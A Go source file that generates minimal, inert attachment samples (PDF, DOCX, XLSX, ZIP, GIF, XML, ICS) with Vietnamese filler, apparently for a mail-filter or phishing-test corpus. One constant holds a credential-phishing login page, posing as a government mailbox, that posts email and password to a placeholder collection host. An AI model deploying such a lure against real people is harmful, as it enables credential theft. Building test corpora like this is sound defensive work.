package corpus

import (
	"archive/zip"
	"bytes"
	"fmt"
	"path"
	"strings"
	"time"
)

// file returns the media type and inert octets of a file with that name. Archives are
// stored, not packed: what a packer writes may differ between versions of Go.
func file(name string) (kind string, data []byte) {
	switch strings.ToLower(path.Ext(name)) {
	case ".pdf":
		return "application/pdf", pdf()
	case ".docx":
		return "application/vnd.openxmlformats-officedocument.wordprocessingml.document", office("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
			`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>`)
	case ".xlsx":
		return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", office("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>`)
	case ".zip":
		return "application/zip", stored("tai-lieu.txt", "Tài liệu kèm theo.\r\n")
	case ".gif", ".png", ".jpg":
		return "image/gif", []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
	case ".htm", ".html":
		return "text/html", []byte(signIn)
	case ".xml":
		return "application/xml", []byte("<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<HDon><DLHDon/></HDon>\r\n")
	case ".ics":
		return "text/calendar", []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//mau//vi\r\nBEGIN:VEVENT\r\nUID:hop@mau.test\r\nDTSTAMP:20261116T010000Z\r\nDTSTART:20261120T010000Z\r\nSUMMARY:Hop giao ban\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
	case ".txt", ".csv":
		return "text/plain", []byte("Tài liệu kèm theo.\r\n")
	default:
		return "application/octet-stream", []byte("tai lieu\r\n")
	}
}

// signIn is the page that asks for a password: a lure, sent to nobody.
const signIn = `<html><head><meta charset="utf-8"><title>Đăng nhập</title></head>
<body><h2>Đăng nhập hộp thư công vụ để xem tài liệu</h2>
<form action="https://thu-thap.mau-phishing.example/luu.php" method="post">
<input name="email" placeholder="Địa chỉ thư"><input type="password" name="matkhau" placeholder="Mật khẩu">
<button>Đăng nhập</button></form></body></html>
`

func stored(pairs ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i+1 < len(pairs); i += 2 {
		f, err := w.CreateHeader(&zip.FileHeader{Name: pairs[i], Method: zip.Store, Modified: time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)})
		if err == nil {
			_, _ = f.Write([]byte(pairs[i+1])) // a bytes.Buffer takes all
		}
	}
	_ = w.Close()
	return b.Bytes()
}

// office is the smallest package of the Open Packaging Conventions that opens.
func office(main, contentType, xml string) []byte {
	const head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`
	return stored(
		"[Content_Types].xml", head+`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/`+main+`" ContentType="`+contentType+`"/></Types>`,
		"_rels/.rels", head+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="`+main+`"/></Relationships>`,
		main, head+xml)
}

// pdf is one empty page.
func pdf() []byte {
	var b bytes.Buffer
	var at []int
	b.WriteString("%PDF-1.4\n")
	for i, object := range []string{"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"} {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(at)+1, start)
	return b.Bytes()
}
